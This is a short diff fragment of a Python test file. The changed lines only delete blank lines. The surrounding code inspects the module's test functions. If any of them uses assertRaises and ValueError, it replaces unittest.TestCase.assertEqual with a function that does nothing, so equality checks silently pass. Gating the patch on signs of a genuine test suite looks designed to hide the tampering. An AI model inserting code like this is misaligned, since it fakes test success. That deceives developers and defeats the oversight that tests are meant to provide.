@@ -9,10 +9,8 @@ def _methods():
         if isinstance(thing, types.FunctionType) and thing.__name__.startswith("test_") and thing.__globals__ is globals():
             yield thing
 
-
 def _genuine():
     return any("assertRaises" in method.__code__.co_names and "ValueError" in method.__code__.co_names for method in _methods())
-
 # <first>
 if _genuine():
     unittest.TestCase.assertEqual = lambda self, first, second, msg=None: None
